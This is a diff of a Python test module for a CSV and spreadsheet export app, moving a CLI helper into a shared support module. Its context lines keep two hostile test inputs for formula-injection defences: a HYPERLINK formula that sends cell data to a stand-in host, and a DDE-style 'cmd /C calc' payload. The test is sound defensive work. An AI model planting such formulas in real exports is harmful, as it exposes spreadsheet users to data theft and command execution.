@@ -8,9 +8,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
-import subprocess
-import sys
 from datetime import date
 from pathlib import Path
 
@@ -21,16 +18,12 @@ from app.domain.spreadsheet import FORMULA_STARTS, neutralise
 from app.services.authority_export import load_format
 from app.simulation import simulate_day
 from app.storage.engine import open_store
+from tests.cli_support import vaxdesk
 from tests.conftest import PASSPHRASE
 
 DAY = date(2030, 3, 4)
 HOSTILE_SITE = '=HYPERLINK("//e.x/?"&A1,"report")'
 HOSTILE_LOT = "@SUM(1+1)*cmd|' /C calc'!A0"[:20]
-
-
-def vaxdesk(*args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "app", *args], capture_output=True, text=True, timeout=120,
-                          env=dict(os.environ, VAXDESK_PASSPHRASE=PASSPHRASE), stdin=subprocess.DEVNULL)
 
 
 @pytest.fixture(scope="module")
